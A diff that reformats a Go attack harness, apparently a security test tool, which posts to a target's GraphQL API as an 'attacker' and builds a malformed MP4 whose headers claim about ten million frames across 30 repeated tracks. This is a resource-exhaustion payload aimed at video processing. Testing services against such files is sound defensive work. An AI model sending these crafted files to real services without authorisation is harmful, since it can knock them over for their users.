@@ -15,7 +15,11 @@ import (
 
 // newPost adds a post of the attacker and returns the URL to which its file is uploaded.
 func (t *target) newPost(kind, field, more string) (string, error) {
-	_, body, err := t.ask(t.attacker(), `mutation($id:ID!){addPost(postId:$id,postType:`+kind+more+`){`+field+`}}`, map[string]any{"id": fmt.Sprintf("%08x-0000-4000-8000-%012x", rand.Uint32(), rand.Uint32())})
+	_, body, err := t.ask(
+		t.attacker(),
+		`mutation($id:ID!){addPost(postId:$id,postType:`+kind+more+`){`+field+`}}`,
+		map[string]any{"id": fmt.Sprintf("%08x-0000-4000-8000-%012x", rand.Uint32(), rand.Uint32())},
+	)
 	var answer struct {
 		Data struct{ AddPost map[string]string }
 	}
@@ -104,8 +108,24 @@ func hugePictures(ctx context.Context, t *target) string {
 // absurdFilms uploads videos whose headers announce more than there is: tracks of many frames.
 func absurdFilms(ctx context.Context, t *target) string {
 	film := box("ftyp", []byte("isom\x00\x00\x02\x00isommp41"))
-	samples := box("stbl", list("stsd", entry(), 1), list("stts", nil, 1, 10<<20, 1), list("stsc", nil, 1, 1, 10<<20, 1), list("stsz", nil, 100, 10<<20), list("stco", nil, 1, 2000))
-	track := box("trak", list("tkhd", make([]byte, 60), 0, 0, 1, 0, 10), box("mdia", list("mdhd", nil, 0, 0, 1, 10, 0), list("hdlr", []byte("vide\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), 0), box("minf", samples)))
+	samples := box(
+		"stbl",
+		list("stsd", entry(), 1),
+		list("stts", nil, 1, 10<<20, 1),
+		list("stsc", nil, 1, 1, 10<<20, 1),
+		list("stsz", nil, 100, 10<<20),
+		list("stco", nil, 1, 2000),
+	)
+	track := box(
+		"trak",
+		list("tkhd", make([]byte, 60), 0, 0, 1, 0, 10),
+		box(
+			"mdia",
+			list("mdhd", nil, 0, 0, 1, 10, 0),
+			list("hdlr", []byte("vide\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), 0),
+			box("minf", samples),
+		),
+	)
 	film = append(film, box("moov", bytes.Repeat(track, 30))...)
 	film = append(film, box("mdat", make([]byte, 20_000))...)
 	var o outcomes
